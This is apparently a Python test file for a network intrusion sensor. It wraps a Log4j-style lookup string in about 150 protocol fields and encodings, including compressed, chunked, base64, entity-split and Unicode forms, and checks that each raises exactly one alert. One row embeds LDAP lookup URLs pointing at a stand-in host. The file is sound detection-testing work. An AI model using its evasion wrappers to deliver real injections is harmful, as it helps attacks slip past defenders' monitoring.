#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""places.py SENSOR: every place that a lookup hides in, one conversation each, and the alert that it must raise.

Each row says what is sent, where the lookup must be found, and under which name; its benign twin sends the same with a
text that only looks like a lookup. All attacks go into one capture and all twins into another; a third has the attacks
in segments of three bytes. A row that raises no alert, two alerts, or one with another place, fails.
"""
import base64
import binascii
import gzip
import json
import pathlib
import quopri
import struct
import sys
import tempfile
import urllib.parse
import zlib

import sensor as lab
import wires as w

TABLE = []
LONG = 500_000  # bytes of a conversation that is not worth to be sent in small segments


def place(row, location, name=None, twin=None):
    """Registers a writer: it gets a capture and the text to hide. twin: the text of the benign one, when a place has no
    room for the usual."""
    def register(writer):
        TABLE.append((row, writer, location, name, twin))
        return writer
    return register


def tcp(row, location, port, said, name=None, twin=None):
    """said(text) gives the bytes of the client, or what both sides say."""
    def writer(capture, text):
        what = said(text)
        what = [("c", what)] if isinstance(what, bytes) else what
        segment = capture.segment
        if sum(len(data) for _, data in what) > LONG:
            capture.segment = w.SEGMENT
        capture.tcp(port, what)
        capture.segment = segment
    place(row, location, name, twin)(writer)


def udp(row, location, port, said, name=None, twin=None):
    def writer(capture, text):
        what = said(text)
        capture.udp(port, [("c", what)] if isinstance(what, bytes) else what)
    place(row, location, name, twin)(writer)


OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


def http(row, location, request, name=None):
    tcp(row, location, 8080, lambda text: [("c", request(text)), ("s", OK)], name)


def body(content, kind=b"text/plain", head=b""):
    return (b"POST /p HTTP/1.1\r\nHost: h.example\r\nContent-Type: " + kind + b"\r\n" + head + b"Content-Length: %d\r\n\r\n"
            % len(content) + content)


def header(name, value):
    return b"GET / HTTP/1.1\r\nHost: h.example\r\n" + name + b": " + value + b"\r\n\r\n"


def percent(text, times=1):
    for _ in range(times):
        text = "".join("%%%02X" % c for c in text).encode()
    return text


def chunked(*parts):
    return b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in parts) + b"0\r\n"


CHUNKED_HEAD = b"POST /p HTTP/1.1\r\nHost: h.example\r\nTransfer-Encoding: chunked\r\n"

# --- HTTP/1 ---------------------------------------------------------------------------------------------------------

http("a1 path", "http.uri", lambda t: b"GET /" + t + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
http("a2 query, braces only", "http.uri", lambda t: b"GET /?q=" + t.replace(b"${", b"%24%7B").replace(b"}", b"%7D") +
     b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
http("a3 query, form", "http.uri", lambda t: b"GET /?q=" + urllib.parse.quote_plus(t).encode() + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
http("a4 every byte", "http.uri", lambda t: b"GET /?q=" + percent(t) + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
http("a5 three times", "http.uri", lambda t: b"GET /?q=" + percent(t, 3) + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
http("a6 %u", "http.uri", lambda t: b"GET /?q=" + "".join("%%u%04x" % c for c in t).encode() + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
for header_name in (b"User-Agent", b"Referer", b"X-Forwarded-For", b"X-Api-Version", b"Cookie", b"Accept-Language",
                    b"Content-Type", b"If-Modified-Since", b"Origin", b"X-Real-IP"):
    http("a7 " + header_name.decode(), "http.request_header", lambda t, n=header_name: header(n, t), header_name.decode())
http("a7 bearer", "http.request_header", lambda t: header(b"Authorization", b"Bearer " + t), "Authorization")
http("a7 host", "http.request_header", lambda t: b"GET / HTTP/1.1\r\nHost: " + t + b"\r\n\r\n", "Host")
http("a8 header name", "http.request_header", lambda t: header(t, b"x"))
http("a9 encoded header", "http.request_header", lambda t: header(b"X-Id", percent(t)), "X-Id")
http("a10 folded", "http.request_header", lambda t: header(b"X-Id", b"begin\r\n " + t), "X-Id")
http("a11 basic", "http.request_header", lambda t: header(b"Authorization", b"Basic " + base64.b64encode(t + b":pw")), "Authorization")
http("a12 cookie in base64", "http.request_header", lambda t: header(b"Cookie", b"s=" + base64.b64encode(t)), "Cookie")
http("a12 token", "http.request_header", lambda t: header(b"Authorization", b"Bearer eyJhbGciOiJub25lIn0." + base64.urlsafe_b64encode(
    b'{"sub":"' + t + b'"}').rstrip(b"=") + b"."), "Authorization")
http("a13 method", "http.method", lambda t: t + b" / HTTP/1.1\r\nHost: h.example\r\n\r\n")
http("a14 raw body", "http.request_body", lambda t: body(t))
http("a14 CDATA", "http.request_body", lambda t: body(b"<a><![CDATA[" + t + b"]]></a>", b"text/xml"))
http("a14 multipart", "http.request_body", lambda t: body(b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + t + b"\r\n--b--\r\n",
                                                          b"multipart/form-data; boundary=b"))
http("a14 filename", "http.request_body", lambda t: body(b'--b\r\nContent-Disposition: form-data; name="a"; filename="' + t +
                                                         b'"\r\n\r\nx\r\n--b--\r\n', b"multipart/form-data; boundary=b"))
http("a15 form", "http.request_body", lambda t: body(b"a=1&b=" + urllib.parse.quote_plus(t).encode(), b"application/x-www-form-urlencoded"))
http("a16 form, every byte", "http.request_body", lambda t: body(b"b=" + percent(t), b"application/x-www-form-urlencoded"))
http("a17 JSON \\u", "http.request_body", lambda t: body(b'{"a":"' + "".join("\\u%04x" % c for c in t).encode() + b'"}', b"application/json"))
http("a18 JSON \\/", "http.request_body", lambda t: body(b'{"a":"' + t.replace(b"/", b"\\/") + b'"}', b"application/json"))
http("a19 XML", "http.request_body", lambda t: body(b"<a>" + "".join("&#x%x;" % c for c in t).encode() + b"</a>", b"text/xml"))
http("a20 base64", "http.request_body", lambda t: body(base64.b64encode(t), b"text/plain"))
http("a20 base64 in lines", "http.request_body", lambda t: body(
    b"<a>\n" + base64.encodebytes(b"." * 40 + t).replace(b"\n", b"\r\n  ") + b"</a>", b"text/xml"))
http("a20 a part in base64", "http.request_body", lambda t: body(
    b'--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n' +
    base64.encodebytes(b"." * 42 + t).replace(b"\n", b"\r\n") + b"--b--\r\n", b"multipart/form-data; boundary=b"))
http("a20 a key in base64, in JSON", "http.request_body", lambda t: body(
    json.dumps({"k": base64.encodebytes(b"." * 41 + t).decode()}).encode(), b"application/json"), "$.k")
http("a21 UTF-16LE", "http.request_body", lambda t: body(t.decode().encode("utf-16-le")))
http("a21 UTF-16BE", "http.request_body", lambda t: body(t.decode().encode("utf-16-be")))
http("a19 XML, in an entity", "http.request_body", lambda t: body(
    b'<!DOCTYPE r [<!ENTITY x "' + t + b'">]><r>&x;</r>', b"application/xml"))
http("a19 XML, of entities in entities", "http.request_body", lambda t: body(
    b'<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY a "' + t[:1] + b'">\n<!ENTITY b \'' + t[1:9] + b'\'>\n<!ENTITY c "&a;&b;' + t[9:] +
    b'">\n]>\n<r><u>&c;</u></r>'))
http("a20 SAML, deflated in a query", "http.uri", lambda t: b"GET /sso?RelayState=x&SAMLRequest=" + urllib.parse.quote(base64.b64encode(
    zlib.compress(b'<samlp:AuthnRequest ID="_1"><saml:Issuer>' + t + b"</saml:Issuer></samlp:AuthnRequest>")[2:-4]), safe="").encode() +
    b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
http("a20 SAML in a form", "http.request_body", lambda t: body(b"SAMLResponse=" + urllib.parse.quote(base64.b64encode(
    b"<samlp:Response><saml:NameID>" + t + b"</saml:NameID></samlp:Response>"), safe="").encode(), b"application/x-www-form-urlencoded"))
http("a21 UTF-32LE", "http.request_body", lambda t: body(b"user=".decode().encode("utf-32-le") + t.decode().encode("utf-32-le")))
http("a21 UTF-32BE", "http.request_body", lambda t: body(t.decode().encode("utf-32-be")))
http("a14 a file name in parts", "http.request_body", lambda t: body(
    b"--b\r\nContent-Disposition: form-data; name=a; filename*0*=utf-8''" + percent(t[:9]) + b'; filename*1="' + t[9:] + b'"\r\n\r\nx\r\n--b--\r\n',
    b"multipart/form-data; boundary=b"))
http("a22 over chunks", "http.request_body", lambda t: CHUNKED_HEAD + b"\r\n" + chunked(t[:9], t[9:20], t[20:]) + b"\r\n")
http("a23 trailer", "http.request_header", lambda t: CHUNKED_HEAD + b"\r\n" + chunked(b"x") + b"X-Sum: " + t + b"\r\n\r\n", "X-Sum")
http("a24 gzip", "http.request_body", lambda t: body(gzip.compress(t), head=b"Content-Encoding: gzip\r\n"))
http("a24 zlib", "http.request_body", lambda t: body(zlib.compress(t), head=b"Content-Encoding: deflate\r\n"))
http("a24 raw deflate", "http.request_body", lambda t: body(zlib.compress(t)[2:-4], head=b"Content-Encoding: deflate\r\n"))
http("a24 gzip in chunks", "http.request_body", lambda t: CHUNKED_HEAD + b"Content-Encoding: gzip\r\n\r\n" + chunked(
    gzip.compress(t)[:15], gzip.compress(t)[15:]) + b"\r\n")
http("a25 br", "http.request_body", lambda t: body(w.brotli(t[:9], t[9:]), head=b"Content-Encoding: br\r\n"))
http("a25 zstd", "http.request_body", lambda t: body(w.zstd(t[:9], t[9:]), head=b"Content-Encoding: zstd\r\n"))
http("a24 gzip, among many expressions", "http.request_body", lambda t: body(gzip.compress(json.dumps(
    [{"id": n * 7919 % 1000003, "ref": "ldap://198.51.100.66:1389/x", "ua": t.decode() if n == 1500 else "${user} Mozilla"}
     for n in range(3000)]).encode()), head=b"Content-Encoding: gzip\r\n"))
http("a26 gzip twice", "http.request_body", lambda t: body(gzip.compress(gzip.compress(t)), head=b"Content-Encoding: gzip, gzip\r\n"))
http("a27 far behind", "http.request_body", lambda t: body(b"a line of text\n" * 11000 + t))
http("a27 behind 1.2 MB", "http.request_body", lambda t: body(b"a line of text\n" * 80000 + t))
tcp("a28 the 3,000th request", "http.request_header", 8080, lambda t: [
    ("c", header(b"A", b"1" * 1000)), ("s", OK)] * 3000 + [("c", header(b"A", t)), ("s", OK)], "A")
http("a28 third of a pipeline", "http.request_header", lambda t: header(b"A", b"1") + header(b"A", b"2") + header(b"A", t), "A")
http("a28 line feeds only", "http.request_header", lambda t: b"GET / HTTP/1.1\nHost: h.example\nX-Id: " + t + b"\n\n", "X-Id")
http("a28 proxy", "http.uri", lambda t: b"GET http://h.example/" + t + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
tcp("a29 response header", "http.response_header", 80, lambda t: [("c", header(b"A", b"1")), (
    "s", b"HTTP/1.1 200 OK\r\nX-Echo: " + t + b"\r\nContent-Length: 0\r\n\r\n")], "X-Echo")
tcp("a29 response body", "http.response_body", 80, lambda t: [("c", header(b"A", b"1")), (
    "s", b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(t) + t)])
for coding, packed in (("gzip", gzip.compress), ("deflate", zlib.compress), ("br", lambda t: w.brotli(t[:9], t[9:])),
                       ("zstd", lambda t: w.zstd(t[:9], t[9:]))):
    tcp("a29 response body, " + coding, "http.response_body", 80, lambda t, c=coding, p=packed: [("c", header(b"A", b"1")), (
        "s", b"HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\nContent-Length: %d\r\n\r\n" % (c.encode(), len(p(t))) + p(t))])

# --- behind a prefix --------------------------------------------------------------------------------------------------

for prefix, sent, answer in (
        ("PROXY 1", b"PROXY TCP4 192.0.2.1 198.51.100.2 40000 443\r\n", b""),
        ("PROXY 2", b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c" + bytes(12), b""),
        ("SOCKS 4a", b"\4\1\0\x50\0\0\0\1user\0h.example\0", b"\0\x5a" + bytes(6)),
        ("SOCKS 5", b"\5\1\0\5\1\0\3\x09h.example\0\x50", b"\5\0\5\0\0\1" + bytes(6))):
    tcp("a28 behind " + prefix, "http.request_header", 1080, lambda t, a=sent, b=answer: [
        ("c", a + header(b"X-Id", t)), ("s", b + OK)], "X-Id")

# --- HTTP/2, WebSocket ------------------------------------------------------------------------------------------------

H2_OK = ("s", w.h2_frame(4, 0, 0, b"") + w.h2_frame(1, 5, 1, b"\x88"))


def http2(row, location, said, name=None):
    """said(text): frames of the client behind the preface."""
    tcp(row, location, 8081, lambda t: [("c", w.H2_PREFACE + said(t)), H2_OK], name)


def h2_content(content, head=b"", size=9):
    parts = [content[at:at + size] for at in range(0, len(content), size)]
    return w.h2_frame(1, 4, 1, w.H2_POST + head) + b"".join(
        w.h2_frame(0, part is parts[-1], 1, part) for part in parts)


http2("a30 literal", "http.request_header", lambda t: w.h2_frame(1, 5, 1, w.H2_POST + b"\0" + w.hpack(b"x-id") + w.hpack(t)), "x-id")
http2("a31 Huffman", "http.request_header", lambda t: w.h2_frame(1, 5, 1, w.H2_POST + b"\0" + w.hpack(b"x-id", True) + w.hpack(t, True)),
      "x-id")
http2("a31 path", "http.uri", lambda t: w.h2_frame(1, 5, 1, b"\x82\x86\x01" + w.hpack(b"h") + b"\4" + w.hpack(b"/" + t, True)))
http2("a31 continued", "http.request_header", lambda t: b"".join(w.h2_frame(*frame) for frame in (
    (1, 1, 1, w.H2_POST + b"\0" + w.hpack(b"x-id") + w.hpack(t, True)[:9]), (9, 4, 1, w.hpack(t, True)[9:]))), "x-id")
http2("a32 small frames", "http.request_body", h2_content)
http2("a32 gzip", "http.request_body", lambda t: h2_content(gzip.compress(t), b"\0" + w.hpack(b"content-encoding") + w.hpack(b"gzip")))
GRPC = b"\0" + w.hpack(b"content-type") + w.hpack(b"application/grpc") + b"\0" + w.hpack(b"grpc-encoding")
for coding, packed in (("gzip", gzip.compress), ("deflate", zlib.compress)):
    http2("a32 gRPC, messages in " + coding, "http.request_body", lambda t, c=coding, p=packed: h2_content(
        b"".join(b"\1" + w.sized(4, p(m)) for m in (b"\x0a\x05first", b"\x0a%c" % len(t) + t)), GRPC + w.hpack(c.encode())))
http("a24 gRPC-Web, gzip", "http.request_body", lambda t: body(b"\1" + w.sized(4, gzip.compress(t)), b"application/grpc-web+proto"))
tcp("a33 upgrade", "http.request_header", 8082, lambda t: [
    ("c", header(b"Connection", b"Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__")),
    ("s", b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"),
    ("c", w.H2_PREFACE + w.h2_frame(1, 5, 3, w.H2_POST + b"\0" + w.hpack(b"x-id") + w.hpack(t, True))), H2_OK], "x-id")


def socket(row, said):
    tcp(row, "websocket.payload", 8083, lambda t: [
        ("c", header(b"Connection", b"Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==")),
        ("s", b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"), ("c", said(t))])


socket("a34 masked text", w.websocket)
socket("a34 fragments", lambda t: w.websocket(t[:9], final=False) + w.websocket(b"ping", 9) + w.websocket(t[9:], 0))

H2_CONNECT = (b"\x02" + w.hpack(b"CONNECT") + b"\0" + w.hpack(b":protocol") + w.hpack(b"websocket") + b"\x86\x84\x01" + w.hpack(b"h"))


def h2_socket(row, said):
    """WebSocket in a stream of HTTP/2 (RFC 8441)."""
    def frames(content):
        return b"".join(w.h2_frame(0, 0, 1, content[at:at + 9]) for at in range(0, len(content), 9))
    tcp(row, "websocket.payload", 8084, lambda t: [
        ("c", w.H2_PREFACE + w.h2_frame(1, 4, 1, H2_CONNECT)), ("s", w.h2_frame(4, 0, 0, b"") + w.h2_frame(1, 4, 1, b"\x88")),
        ("c", frames(said(t)) + w.h2_frame(0, 1, 1, b""))])


h2_socket("a34 masked text, in HTTP/2", w.websocket)
h2_socket("a34 fragments, in HTTP/2", lambda t: w.websocket(t[:9], final=False) + w.websocket(b"ping", 9) + w.websocket(t[9:], 0))
tcp("a34 a server's text, in HTTP/2", "websocket.payload", 8084, lambda t: [
    ("c", w.H2_PREFACE + w.h2_frame(1, 4, 1, H2_CONNECT)), ("s", w.h2_frame(4, 0, 0, b"") + w.h2_frame(1, 4, 1, b"\x88") + w.h2_frame(
        0, 0, 1, b"\x81%c" % len(t) + t))])
tcp("a34 none, in HTTP/2", "http.request_body", 8084, lambda t: [
    ("c", w.H2_PREFACE + w.h2_frame(1, 4, 1, H2_CONNECT)), ("s", w.h2_frame(4, 0, 0, b"") + w.h2_frame(1, 4, 1, b"\x88")),
    ("c", w.h2_frame(0, 0, 1, b"text " + t) + w.h2_frame(0, 1, 1, b""))])

# --- LDAP, DNS ------------------------------------------------------------------------------------------------------

tcp("a35 bind DN", "ldap.bind_dn", 389, lambda t: w.ldap_bind(b"cn=" + t))
tcp("a35 bind DN, escaped", "ldap.bind_dn", 389, lambda t: w.ldap_bind(b"cn=" + "".join("\\%02x" % c for c in t).encode()))
tcp("a35 password", "ldap.bind_password", 389, lambda t: w.ldap_bind(b"cn=a", t))
tcp("a35 search base", "ldap.search_base", 3890, lambda t: w.ldap_search(b"cn=" + t, b"x"))
tcp("a35 filter value", "ldap.search_filter", 389, lambda t: w.ldap_bind(b"cn=a") + w.ldap_search(b"dc=a", t))
TWIN_NAME = b"jndi-ldap.example"
udp("a36 name, split at its dots", "dns.rrname", 53, w.dns_query, twin=TWIN_NAME)
udp("a36 name, any port", "dns.rrname", 5300, lambda t: w.dns_query(b"x." + t + b".example.com", 28), twin=TWIN_NAME)
tcp("a36 name over TCP", "dns.rrname", 53, lambda t: w.sized(2, w.dns_query(t)), twin=TWIN_NAME)
udp("a36 multicast", "dns.rrname", 5353, lambda t: w.dns_query(t + b".local", 12, b"\0\0\0\0"), twin=b"My Printer._ipp._tcp")
udp("a36 link-local", "dns.rrname", 5355, w.dns_query, twin=b"WORKSTATION7")
udp("a36 TXT answer", "dns.rdata", 53, lambda t: [("c", w.dns_query(b"a.example", 16)), (
    "s", w.dns_answer(b"a.example", 16, w.txt(t[:12], t[12:])))])
udp("a36 CNAME answer", "dns.rdata", 53, lambda t: [("c", w.dns_query(b"a.example", 5)), (
    "s", w.dns_answer(b"a.example", 5, w.labels(t)))], twin=TWIN_NAME)

# --- Mail -----------------------------------------------------------------------------------------------------------

GREETING = ("s", b"220 mx.example ESMTP\r\n")


def smtp(row, location, said, name=None):
    tcp(row, location, 25, lambda t: [GREETING, ("c", said(t)), ("s", b"250 fine\r\n")], name)


def mail(message, helo=b"h.example"):
    return (b"EHLO " + helo + b"\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\n" + message + b"\r\n.\r\nQUIT\r\n")


def word(text, coding):
    if coding == b"B":
        return b"=?utf-8?B?" + base64.b64encode(text) + b"?="
    return b"=?utf-8?Q?" + "".join("=%02X" % c for c in text).encode() + b"?="


smtp("a37 EHLO", "smtp.helo", lambda t: mail(b"Subject: a\r\n\r\nb", t))
smtp("a37 MAIL FROM", "smtp.mail_from", lambda t: b"EHLO h\r\nMAIL FROM:<" + t + b">\r\n")
smtp("a37 RCPT TO", "smtp.rcpt_to", lambda t: b"EHLO h\r\nMAIL FROM:<a@b>\r\nRCPT TO:<" + t + b">\r\n")
smtp("a37 another command", "smtp.command", lambda t: b"HELO h\r\nVRFY " + t + b"\r\n")
smtp("a37 header", "email.header", lambda t: mail(b"Subject: " + t + b"\r\n\r\nb"), "Subject")
smtp("a37 body", "email.body", lambda t: mail(b"Subject: a\r\n\r\nHi,\r\n.." + t))
smtp("a37 body by BDAT", "email.body", lambda t: b"EHLO h\r\nMAIL FROM:<a@b>\r\nBDAT 19\r\nSubject: a\r\n\r\nbegin" +
     b"BDAT %d LAST\r\n" % len(t) + t + b"QUIT\r\n")
smtp("a38 words split in two", "email.header", lambda t: mail(b"Subject: " + word(t[:11], b"B") + b"\r\n " + word(t[11:], b"Q") +
                                                              b"\r\n\r\nb"), "Subject")
smtp("a38 base64 part", "email.body", lambda t: mail(
    b"Content-Type: multipart/mixed;\r\n boundary=\"=_b\"\r\n\r\n--=_b\r\n\r\nplain\r\n--=_b\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
    base64.encodebytes(b"." * 40 + t).replace(b"\n", b"\r\n") + b"--=_b--\r\n"))
smtp("a38 quoted-printable", "email.body", lambda t: mail(
    b"Content-Transfer-Encoding: quoted-printable\r\n\r\n" + quopri.encodestring(b"e=" + t[:16]) + b"=\r\n" + t[16:]))
smtp("a38 a file name in parts", "email.header", lambda t: mail(
    b"Content-Disposition: attachment; filename*0=\"" + t[:1] + b"\";\r\n filename*1=\"" + t[1:12] + b"\";\r\n filename*2*=" + percent(t[12:]) +
    b"\r\n\r\nb"), "Content-Disposition")
smtp("a38 uuencode", "email.body", lambda t: mail(b"Subject: a\r\n\r\nsee below\r\nbegin 644 a.txt\r\n" + b"".join(
    binascii.b2a_uu((b"x" * 40 + t)[at:at + 45]).replace(b"\n", b"\r\n") for at in range(0, 40 + len(t), 45)) + b"`\r\nend"))
smtp("a38 AUTH PLAIN", "smtp.auth", lambda t: b"EHLO h\r\nAUTH PLAIN " + base64.b64encode(b"\0" + t + b"\0pw") + b"\r\n")
smtp("a38 AUTH LOGIN", "smtp.auth", lambda t: b"EHLO h\r\nAUTH LOGIN\r\n" + base64.b64encode(t) + b"\r\ncHc=\r\nQUIT\r\n")

# --- What the raw window reads ---------------------------------------------------------------------------------------

tcp("a39 IMAP", "raw", 143, lambda t: [("s", b"* OK ready\r\n"), ("c", b"a1 LOGIN \"" + t + b"\" pw\r\n")])
tcp("a39 POP3", "raw", 110, lambda t: [("s", b"+OK ready\r\n"), ("c", b"USER " + t + b"\r\n")])
tcp("a39 FTP", "raw", 21, lambda t: [("s", b"220 (vsFTPd 3.0.3)\r\n"), ("c", b"USER " + t + b"\r\nPASS x\r\n")])
tcp("a39 SSH", "raw", 22, lambda t: b"SSH-2.0-" + t + b"\r\n")
tcp("a39 telnet", "raw", 23, lambda t: b"\xff\xfd\x03\xff\xfb\x18" + t + b"\r\n")
tcp("a40 memcached", "raw", 11211, lambda t: b"set k 0 0 %d\r\n" % len(t) + t + b"\r\n")
tcp("a40 Postgres", "raw", 5432, lambda t: w.sized(4, b"\0\3\0\0user\0" + t + b"\0\0"))
tcp("a40 RDP cookie", "raw", 3389, lambda t: b"\3\0" + w.sized(2, b"\x2a\xe0\0\0\0\0\0Cookie: mstshash=" + t + b"\r\n"))
udp("a40 SNMP", "raw", 161, lambda t: w.ber(0x30, w.ber(2, b"\1"), w.ber(4, t), w.ber(0xa0, w.ber(2, b"\1"))))
udp("a40 RADIUS", "raw", 1812, lambda t: b"\1\7\0%c" % (22 + len(t)) + b"a" * 16 + b"\1%c" % (2 + len(t)) + t)
udp("a40 DHCP", "raw", 67, lambda t: b"\1\1\6\0xid_" + bytes(228) + b"c\x82Sc" + b"\x0c%c" % len(t) + t + b"\xff")
tcp("a40 RMI argument", "raw", 1099, lambda t: b"JRMI\0\2K\0\1h\0\0\0\0" + b"P\xac\xed\0\5\x77\x22" + bytes(34) + w.java_string(t))
tcp("a40 Log4j JSON", "raw", 4560, lambda t: json.dumps({"level": "INFO", "message": t.decode()}).encode() + b"\n")
tcp("a40 Log4j serialized", "raw", 4712, lambda t: b"\xac\xed\0\5sr\0>org.apache.logging.log4j.core.impl.Log4jLogEvent$LogEventProxy" +
    bytes(12) + w.java_string(t))
tcp("a40 Log4j JSON, for days", "raw", 4560, lambda t: b'{"message":"nothing"}\n' * 60000 + json.dumps(
    {"message": t.decode()}).encode() + b"\n")
tcp("a44 answer of a server", "raw", 9999, lambda t: [("c", b"hello\n"), ("s", b"you said " + t + b"\n")])
udp("a44 answer in a datagram", "raw", 9999, lambda t: [("c", b"hello"), ("s", b"you said " + t)])

# --- Logs, messages, chats -------------------------------------------------------------------------------------------

udp("a40 SIP", "sip.header", 5060, lambda t: b"INVITE sip:b@h.example SIP/2.0\r\nVia: SIP/2.0/UDP h\r\nUser-Agent: " + t +
    b"\r\nContent-Length: 0\r\n\r\n", "User-Agent")
tcp("a40 SIP, folded, over TCP", "sip.header", 5070, lambda t: b"REGISTER sip:h.example SIP/2.0\r\nl: 2\r\nSubject: x\r\n " + t + b"\r\n\r\nab",
    "Subject")
udp("a40 SIP URI", "sip.request_line", 5060, lambda t: b"INVITE sip:" + t + b"@h.example SIP/2.0\r\n\r\n")
udp("a40 SIP body", "sip.body", 5060, lambda t: b"MESSAGE sip:b@h SIP/2.0\r\nContent-Length: %d\r\n\r\n" % len(t) + t)
udp("a40 syslog", "syslog.message", 514, lambda t: b"<13>1 2026-01-05T10:00:00Z h app - - - " + t)
tcp("a40 syslog, counted", "syslog.message", 601, lambda t: b"".join(b"%d %s" % (len(m), m) for m in (
    b"<13>first ${unclosed", b"<13>h app: " + t, b"<14>last")))
tcp("a40 syslog, cut by a count", "raw", 601, lambda t: b"15 <13>user=aa" + t + b" failed\n")
tcp("a40 syslog lines", "syslog.message", 514, lambda t: b"<13>first ${unclosed\n<13>h app: " + t + b"\n")
tcp("a40 MQTT client", "mqtt.connect.clientid", 1883, lambda t: w.mqtt_connect(t))
tcp("a40 MQTT user", "mqtt.connect.username", 1883, lambda t: w.mqtt_connect(b"c", t))
tcp("a40 MQTT topic", "mqtt.publish.topic", 1884, lambda t: w.mqtt_connect(b"c") + w.mqtt(0x30, w.sized(2, t) + b"m"))
tcp("a40 MQTT message", "mqtt.publish.message", 1883, lambda t: w.mqtt_connect(b"c") + w.mqtt(0x32, w.sized(2, b"t") + b"\0\1" + t))
tcp("a41 MQTT, gzip", "mqtt.publish.message", 1883, lambda t: w.mqtt_connect(b"c") + w.mqtt(0x30, w.sized(2, b"t") + gzip.compress(b'{"a":"' + t + b'"}')))
tcp("a41 MQTT will, zlib", "mqtt.connect.willmessage", 1883, lambda t: w.mqtt(0x10, w.sized(2, b"MQTT") + b"\4\6\0\x3c" + b"".join(
    w.sized(2, part) for part in (b"c", b"gone", zlib.compress(t)))))
tcp("a41 Redis, gzip", "redis.argument", 6379, lambda t: w.resp(b"SET", b"k", gzip.compress(b'{"a":"' + t + b'"}')))
tcp("a40 Redis", "redis.argument", 6379, lambda t: w.resp(b"SET", b"k", b"${unclosed") + w.resp(b"SET", b"k", t))
tcp("a40 Minecraft chat", "minecraft.packet", 25565, lambda t: w.minecraft_handshake(b"h") + w.minecraft(b"\5" + w.varint(len(t)) + t))
tcp("a40 Minecraft chat, compressed", "minecraft.packet", 25565, lambda t: w.minecraft_handshake(b"h") + w.minecraft(
    b"\5" + t, zlib.compress(b"\5" + t + b"." * 300)))
tcp("a40 Minecraft chat, to the players", "minecraft.packet", 25565, lambda t: [
    ("c", w.minecraft_handshake(b"h")), ("s", w.minecraft(b"\x64" + t, zlib.compress(b"\x64" + t)))])
udp("a41 GELF, gzip", "gelf.message", 12201, lambda t: gzip.compress(json.dumps({"short_message": t.decode()}).encode()))
udp("a41 GELF, zlib", "gelf.message", 12201, lambda t: zlib.compress(json.dumps({"short_message": t.decode()}).encode()))
udp("a41 GELF, clear", "gelf.message", 12201, lambda t: json.dumps({"version": "1.1", "short_message": t.decode()}).encode())
udp("a41 GELF, chunks out of order", "gelf.message", 12201, lambda t: [
    ("c", c) for c in reversed(w.gelf_chunks(gzip.compress(json.dumps({"short_message": t.decode()}).encode()), 20))])
udp("a41 rsyslog's compressed lines", "raw", 514, lambda t: b"z" + zlib.compress(b"<13>Dec 10 10:00:00 web01 app: login of " + t + b" " * 90))
tcp("a41 GELF over TCP", "raw", 12201, lambda t: b'{"short_message":"first"}\0{"short_message":"' + t.replace(b"$", b"\\u0024") + b'"}\0')

tcp("a41 GELF over TCP, gzip", "raw", 12201, lambda t: b"".join(
    gzip.compress(json.dumps({"short_message": m.decode()}).encode()) for m in (b"first", t)))


def stored(*parts):
    """gzip that compresses nothing, in blocks of these parts (RFC 1951 3.2.4)."""
    blocks = b"".join(b"%c" % (part is parts[-1]) + struct.pack("<HH", len(part), len(part) ^ 0xffff) + part for part in parts)
    whole = b"".join(parts)
    return gzip.compress(b"")[:10] + blocks + struct.pack("<II", zlib.crc32(whole), len(whole))


def beats(text):
    packed = zlib.compress(b"2J\0\0\0\1" + w.sized(4, json.dumps({"message": text.decode()}).encode()), 3)
    return b"2W\0\0\0\1" + b"2C" + w.sized(4, packed)


tcp("a41 Beats", "raw", 5044, lambda t: beats(b"first") + beats(t))
tcp("a41 a broker's batch, gzip", "raw", 9092, lambda t: b"\0\0\1\x2c\0\0\0\7" + bytes(20) + gzip.compress(t) + bytes(9))
# What stands in clear in a compressed text is half of a lookup, or has a block's head in it.
tcp("a41 a batch, zstd in stored blocks", "raw", 9092, lambda t: b"\0\0\1\x2c" + w.zstd(t[:-9], t[-9:]) + bytes(9))
tcp("a41 a batch, gzip in stored blocks", "raw", 9092, lambda t: b"\0\0\1\x2c" + stored(t[:20], t[20:], t, b"." * 500) + bytes(9))
tcp("a41 a batch, behind a start that is none", "raw", 9092, lambda t: b"\x78\x01\0\xff\xff\0\0" + b"a line\n" * 700 + gzip.compress(
    t) + b"a line\n" * 700)
http("a24 gzip behind a length of 0", "raw", lambda t: b"POST / HTTP/1.1\r\nContent-Length: 0\r\n\r\n" + gzip.compress(t))

# --- TLS ------------------------------------------------------------------------------------------------------------

tcp("a42 SNI", "tls.sni", 443, lambda t: [("c", w.tls_hello(t)), ("s", w.tls_server_flight(w.x509(b"i", b"s", b"a.example"))), (
    "c", w.TLS_CLIENT_END)])
tcp("a42 ALPN", "tls.alpn", 443, lambda t: [("c", w.tls_hello(b"a.example", t))])
for index, part in enumerate(("tls.issuerdn", "tls.subject", "tls.subjectaltname")):
    tcp("a43 " + part, part, 8443, lambda t, i=index: [("c", w.tls_hello(b"a.example")), ("s", w.tls_server_flight(
        w.x509(*[t if k == i else b"x" for k in range(3)]))), ("c", w.TLS_CLIENT_END)])
